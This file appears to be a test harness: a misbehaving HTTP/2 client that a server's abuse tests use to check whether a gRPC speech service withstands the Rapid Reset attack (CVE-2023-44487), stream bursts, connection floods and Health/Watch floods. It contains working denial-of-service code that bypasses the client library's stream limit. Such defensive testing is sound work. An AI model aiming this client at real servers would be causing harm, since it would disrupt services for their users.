"""A deliberately misbehaving HTTP/2 client (the h2 library over a raw socket), run by
tests/test_http2_abuse.py in a separate process so that neither its CPU time nor its memory
counts as the server's:

- ``rapid-reset``: HEADERS for a streaming call immediately followed by RST_STREAM(CANCEL),
  over and over on one connection (CVE-2023-44487), never waiting for the server;
- ``burst``: many streams opened at once on one connection and left open;
- ``connections``: many connections from one address, held open;
- ``watch``: many ``grpc.health.v1.Health/Watch`` calls held open on several connections.

It prints one JSON object with what the server answered (refused streams, GOAWAY, responses)."""

from __future__ import annotations

import argparse
import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

REFUSED_STREAM = h2.errors.ErrorCodes.REFUSED_STREAM


class Connection:
    """One HTTP/2 client connection that ignores the server's stream limit (a client that
    respects MAX_CONCURRENT_STREAMS is no attacker): h2's own check is switched off."""

    def __init__(self, host: str, port: int, timeout: float, source: str = ""):
        self.sock = socket.create_connection((host, port), timeout=timeout,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}"
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_inbound_headers=False))
        self.h2.initiate_connection()
        self.flush()
        self.closed = False  # the server closed the TCP connection
        self.goaway: dict | None = None
        self.refused = 0  # RST_STREAM(REFUSED_STREAM) from the server
        self.resets = {}  # other RST_STREAM codes from the server: count by code
        self.responses = 0  # streams the server answered with HEADERS
        self.ended = 0  # streams the server ended (END_STREAM)
        self.messages = 0  # DATA frames with a gRPC message
        self.statuses: dict[str, int] = {}  # grpc-status of trailers, count by code
        self.max_concurrent_streams: int | None = None

    def headers(self, path: str) -> list[tuple[str, str]]:
        return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", self.authority),
                ("content-type", "application/grpc"), ("te", "trailers")]

    def open_stream(self, path: str, end_stream: bool = False) -> int:
        """HEADERS for a new stream, whatever the server's limit."""
        # h2 refuses to open more streams than the peer allows; an attacker does not ask.
        self.h2.remote_settings._settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = [2**31 - 1]
        stream_id = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream_id, self.headers(path), end_stream=end_stream)
        return stream_id

    def reset(self, stream_id: int) -> None:
        try:
            self.h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
        except h2.exceptions.StreamClosedError:
            pass  # the server refused it first

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, wait: float = 0.0) -> bool:
        """Read and handle what the server sent (up to ``wait`` seconds for the first bytes);
        return whether anything came."""
        if self.closed:
            return False
        readable, _, _ = select.select([self.sock], [], [], wait)
        if not readable:
            return False
        try:
            data = self.sock.recv(1 << 20)
        except (ConnectionResetError, socket.timeout):
            data = b""
        if not data:
            self.closed = True
            return False
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return True
        for event in events:
            if isinstance(event, h2.events.StreamReset) and event.remote_reset:
                if event.error_code == REFUSED_STREAM:
                    self.refused += 1
                else:
                    key = str(int(event.error_code))
                    self.resets[key] = self.resets.get(key, 0) + 1
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id,
                               "debug": (event.additional_data or b"").decode("latin-1")}
            elif isinstance(event, h2.events.ResponseReceived):
                self.responses += 1
                status = dict(event.headers).get("grpc-status")
                if status is not None:  # a Trailers-Only response: the call ended at once
                    self.statuses[status] = self.statuses.get(status, 0) + 1
            elif isinstance(event, h2.events.TrailersReceived):
                status = dict(event.headers).get("grpc-status", "?")
                self.statuses[status] = self.statuses.get(status, 0) + 1
            elif isinstance(event, h2.events.StreamEnded):
                self.ended += 1
            elif isinstance(event, h2.events.DataReceived):
                self.messages += 1
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.RemoteSettingsChanged):
                changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if changed is not None:
                    self.max_concurrent_streams = changed.new_value
        try:
            self.flush()  # SETTINGS and PING acknowledgements, window updates
        except OSError:
            self.closed = True
        return True

    def answered(self) -> int:
        """Streams the server has ended or reset."""
        return self.ended + self.refused + sum(self.resets.values())

    def report(self) -> dict:
        return {"closed": self.closed, "goaway": self.goaway, "refused": self.refused, "resets": self.resets,
                "responses": self.responses, "messages": self.messages, "statuses": self.statuses,
                "max_concurrent_streams": self.max_concurrent_streams}

    def close(self) -> None:
        self.sock.close()


def rapid_reset(host: str, port: int, path: str, pairs: int, batch: int, seconds: float, source: str,
                reset: bool = True) -> dict:
    """``pairs`` HEADERS + RST_STREAM pairs, ``batch`` per write, as fast as the socket takes
    them; stops early when the server sends GOAWAY or closes the connection. Without ``reset``:
    calls that end at once (HEADERS with END_STREAM: no message), ``batch`` at a time, each
    batch answered before the next is sent (so never over the server's stream limit)."""
    conn = Connection(host, port, timeout=seconds, source=source)
    conn.pump(wait=1.0)  # the server's SETTINGS
    started = time.monotonic()
    sent = 0
    try:
        while sent < pairs and conn.goaway is None and not conn.closed:
            if time.monotonic() - started > seconds:
                break
            for _ in range(min(batch, pairs - sent)):
                if reset:
                    conn.reset(conn.open_stream(path))
                else:
                    conn.open_stream(path, end_stream=True)
                sent += 1
            conn.flush()
            while conn.pump(wait=0.0 if reset else 0.5):
                if not reset and conn.answered() >= sent:
                    break
    except OSError:  # the server reset the connection, or stopped reading for ``seconds``
        conn.closed = True
    elapsed = time.monotonic() - started
    # what the server still has to say about the streams sent (RST_STREAMs, GOAWAY): until it
    # has been silent for a second
    deadline = time.monotonic() + 5.0
    while time.monotonic() < deadline and not conn.closed and conn.pump(wait=1.0):
        pass
    conn.close()
    return {"sent": sent, "seconds": round(elapsed, 3), **conn.report()}


def burst(host: str, port: int, path: str, streams: int, source: str) -> dict:
    """``streams`` streams opened at once on one connection and left open (HEADERS only), then
    reset: what the server refuses beyond its concurrent stream limit."""
    conn = Connection(host, port, timeout=10.0, source=source)
    conn.pump(wait=1.0)
    opened = [conn.open_stream(path) for _ in range(streams)]
    conn.flush()
    deadline = time.monotonic() + 5.0
    while time.monotonic() < deadline and not conn.closed and conn.pump(wait=1.0):
        pass
    for stream_id in opened:
        conn.reset(stream_id)
    try:
        conn.flush()
    except OSError:
        conn.closed = True
    conn.close()
    return {"sent": streams, **conn.report()}


def connections(host: str, port: int, count: int, hold: float, source: str) -> dict:
    """``count`` connections from one address, each opened with the HTTP/2 preface, held open for
    ``hold`` seconds: how many the server (or a proxy) answered with its SETTINGS and kept open,
    and how many it refused (closed at once, or before its SETTINGS)."""
    conns = []
    for _ in range(count):
        try:
            conns.append(Connection(host, port, timeout=5.0, source=source))
        except OSError:
            pass  # closed at once, before the client preface could be sent
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline:
        for conn in conns:
            conn.pump(wait=0.01)
        if all(c.closed or c.max_concurrent_streams is not None for c in conns):
            break
    end = time.monotonic() + hold
    while time.monotonic() < end:
        for conn in conns:
            conn.pump(wait=0.01)
    answered = sum(c.max_concurrent_streams is not None and not c.closed for c in conns)
    result = {"attempted": count, "answered": answered, "refused": count - answered}
    for conn in conns:
        conn.close()
    return result


def watch_flood(host: str, port: int, count: int, streams: int, hold: float, ready_file: str,
                source: str) -> dict:
    """``streams`` Health.Watch calls on each of ``count`` connections, all held open for
    ``hold`` seconds after the last one was sent (``ready_file`` is written then)."""
    path = "/grpc.health.v1.Health/Watch"
    message = b"\x00\x00\x00\x00\x00"  # an empty HealthCheckRequest (service ""), uncompressed
    conns = [Connection(host, port, timeout=30.0, source=source) for _ in range(count)]
    for conn in conns:
        conn.pump(wait=1.0)
        for _ in range(streams):
            stream_id = conn.open_stream(path)
            conn.h2.send_data(stream_id, message, end_stream=True)
        conn.flush()
        conn.pump()
    deadline = time.monotonic() + 5.0
    while time.monotonic() < deadline:  # until every stream has been answered or refused
        for conn in conns:
            while conn.pump(wait=0.01):
                pass
        if all(c.closed or c.responses + c.refused + sum(c.resets.values()) >= streams for c in conns):
            break
    with open(ready_file, "w") as f:
        json.dump(merge(conns), f)
    end = time.monotonic() + hold
    while time.monotonic() < end:
        for conn in conns:
            conn.pump(wait=0.05)
    result = merge(conns)
    for conn in conns:
        conn.close()
    return result


def merge(conns: list[Connection]) -> dict:
    reports = [c.report() for c in conns]
    statuses: dict[str, int] = {}
    for r in reports:
        for k, v in r["statuses"].items():
            statuses[k] = statuses.get(k, 0) + v
    return {"connections": len(conns), "closed": sum(r["closed"] for r in reports),
            "goaway": sum(r["goaway"] is not None for r in reports),
            "refused": sum(r["refused"] for r in reports), "responses": sum(r["responses"] for r in reports),
            "messages": sum(r["messages"] for r in reports), "statuses": statuses,
            "max_concurrent_streams": reports[0]["max_concurrent_streams"]}


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("mode", choices=["rapid-reset", "burst", "connections", "watch"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--source", default="", help="local address to connect from (e.g. 127.0.0.2)")
    p.add_argument("--path", default="/asr.v1.SpeechRecognition/StreamingRecognize")
    p.add_argument("--pairs", type=int, default=5000)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--no-reset", action="store_true", help="rapid-reset without the RST_STREAMs")
    p.add_argument("--seconds", type=float, default=15.0)
    p.add_argument("--connections", type=int, default=10)
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--hold", type=float, default=3.0)
    p.add_argument("--ready-file", default="")
    a = p.parse_args(argv)
    if a.mode == "rapid-reset":
        result = rapid_reset(a.host, a.port, a.path, a.pairs, a.batch, a.seconds, a.source,
                             reset=not a.no_reset)
    elif a.mode == "connections":
        result = connections(a.host, a.port, a.connections, a.hold, a.source)
    elif a.mode == "burst":
        result = burst(a.host, a.port, a.path, a.streams, a.source)
    else:
        result = watch_flood(a.host, a.port, a.connections, a.streams, a.hold, a.ready_file, a.source)
    json.dump(result, sys.stdout)
    print()


if __name__ == "__main__":
    main()
